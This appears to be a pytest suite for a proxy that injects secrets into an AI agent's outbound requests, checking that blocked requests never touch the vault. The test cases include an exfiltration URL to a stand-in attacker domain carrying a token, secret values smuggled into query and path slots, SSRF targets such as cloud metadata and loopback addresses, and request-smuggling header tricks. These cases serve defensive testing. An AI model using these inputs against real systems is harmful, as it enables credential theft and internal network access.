"""Must show 3: a blocked request never reads the vault. The keeper counts; the log is not asked."""

import json

import pytest

from helpers import AUTH, REF, STRIPE, curl, head, holds_key, raw, raw_reason, reason, works

HEADER = f"Authorization: Bearer {REF}"

# (name, what to do, the reason it must be given)
BY_CURL = [
    ("unlisted host, header", ("https://attacker-domain.com/", *AUTH), "domain_not_in_allowlist"),
    ("unlisted host, query", (f"https://attacker-domain.com/steal?token={REF}",), "domain_not_in_allowlist"),
    ("unlisted host, plain http", ("http://attacker-domain.com/", *AUTH), "domain_not_in_allowlist"),
    ("plain http to the right host", ("http://api.stripe.com/v1/invoices", *AUTH), "non_https_blocked"),
    ("port that no rule has", ("https://api.stripe.com:8443/", *AUTH), "policy_denied"),
    ("secret of another host", ("https://files.lab-host.com/hello", *AUTH), "secret_not_for_host"),
    ("secret of another host, basic", ("https://files.lab-host.com/hello", "-u", f"{REF}:"), "secret_not_for_host"),
    ("secret that does not exist", (STRIPE, "-H", "Authorization: Bearer agentsecrets://NO_SUCH"), "secret_unknown"),
    ("slot that is not open: query", (f"{STRIPE}?key={REF}",), "secret_slot_not_allowed"),
    ("slot that is not open: query, encoded", (f"{STRIPE}?key=agentsecrets%3A%2F%2FSTRIPE_KEY",), "secret_slot_not_allowed"),
    ("slot that is not open: path", ("https://api.stripe.com/v1/agentsecrets%3A%2F%2FSTRIPE_KEY/x",), "secret_slot_not_allowed"),
    ("two secrets, one of another host", (STRIPE, *AUTH, "-H", "X-Key: agentsecrets://GIT_TOKEN"), "secret_not_for_host"),
    ("private answer for an allowed name", ("https://inside.lab-host.com/", *AUTH), "ssrf_protection_blocked"),
    ("metadata answer for an allowed name", ("https://metadata.lab-host.com/", *AUTH), "ssrf_protection_blocked"),
    ("loopback answer for an allowed name", ("https://loop.lab-host.com/", *AUTH), "ssrf_protection_blocked"),
    ("apex of a wildcard", ("https://wild-host.com/", *AUTH), "domain_not_in_allowlist"),
]
# (name, connect to, SNI, request, reason)
BY_HAND = [
    ("SNI right, Host other", "api.stripe.com", "api.stripe.com", head("api.openai.com", "/", HEADER), "sni_host_mismatch"),
    ("SNI other, Host right", "api.stripe.com", "files.lab-host.com", head("api.stripe.com", "/", HEADER), "sni_host_mismatch"),
    ("two Hosts", "api.stripe.com", "api.stripe.com", head("api.stripe.com", "/", "Host: api.stripe.com", HEADER), "bad_request"),
    ("no Host", "api.stripe.com", "api.stripe.com", f"GET / HTTP/1.1\r\n{HEADER}\r\nConnection: close\r\n\r\n", "bad_request"),
    ("length with chunked", "api.stripe.com", "api.stripe.com",
     head("api.stripe.com", "/", HEADER, "Content-Length: 3", "Transfer-Encoding: chunked", method="POST") + "0\r\n\r\n", "bad_request"),
    ("folded header", "api.stripe.com", "api.stripe.com", head("api.stripe.com", "/", HEADER, " folded: yes"), "bad_request"),
    ("space before colon", "api.stripe.com", "api.stripe.com", head("api.stripe.com", "/", f"Authorization : Bearer {REF}"), "bad_request"),
    ("absolute form to another host", "api.stripe.com", "api.stripe.com",
     head("api.stripe.com", "https://files.lab-host.com/", HEADER), None),
]


@pytest.mark.parametrize("args,why", [c[1:] for c in BY_CURL], ids=[c[0] for c in BY_CURL])
def test_blocked_request_reads_nothing(world, args, why):
    d = world.daemons[0]
    before, upstream = d.reads(), len(world.requests())
    status, body, p = curl(world, *args)
    assert (status, reason(body)) == (403, why), (status, body, p.stderr)
    assert d.reads() == before
    assert len(world.requests()) == upstream, "it reached an upstream"


@pytest.mark.parametrize("host,sni,request_,why", [c[1:] for c in BY_HAND], ids=[c[0] for c in BY_HAND])
def test_malformed_request_reads_nothing(world, host, sni, request_, why):
    d = world.daemons[0]
    before, upstream = d.reads(), len(world.requests())
    answer = raw(world, host, 443, sni, request_)
    status, said = raw_reason(answer)
    assert status in ("400", "403"), answer
    assert why is None or said == why, answer
    assert d.reads() == before
    assert len(world.requests()) == upstream, "it reached an upstream"


@pytest.mark.parametrize("args", [("-H", "X-Any: {key}"), ("-u", "{key}:"), ("-H", "Cookie: a={key}"), ("--json", '{{"a":"{key}"}}'),
                                  ("--data-binary", "{key}"), ("--url-query", "k={key}")])
def test_a_value_written_out_reads_nothing(world, args):
    d = world.daemons[0]
    before, upstream = d.reads(), len(world.requests(host="files.lab-host.com"))
    args = [a.format(key=world.keys["STRIPE_KEY"]) for a in args]
    status, body, p = curl(world, "https://files.lab-host.com/hello", *args)
    assert (status, reason(body)) == (403, "secret_value_in_request"), (status, body, p.stderr)
    assert d.reads() == before
    # a body that goes by is cut where the value begins: nginx may have seen, and answered, the head of such a request
    assert holds_key(world, json.dumps(world.requests(host="files.lab-host.com")[upstream:])) == []


@pytest.mark.parametrize("address", ["169.254.169.254", "10.0.1.5", "127.0.0.1", "[::1]", "[fd00:ec2::254]", "192.168.1.1",
                                     "[::ffff:10.0.1.5]", "100.64.0.1", "224.0.0.1", "0.0.0.0"])
def test_kernel_refusal_reads_nothing(world, address):
    d = world.daemons[0]
    before = d.reads()
    status, body, p = curl(world, f"http://{address}/", *AUTH)
    assert status == 0 and body == "" and p.returncode == 7, (status, body, p.stderr)
    assert d.reads() == before


def test_allowed_request_reads_once(world):
    d = world.daemons[0]
    before = d.reads()
    works(world)
    assert d.reads() == before + 1


def test_request_without_reference_reads_nothing(world):
    d = world.daemons[0]
    before = d.reads()
    status, body, p = curl(world, "https://files.lab-host.com/hello")
    assert (status, body) == (200, "hello\n"), p.stderr
    assert d.reads() == before
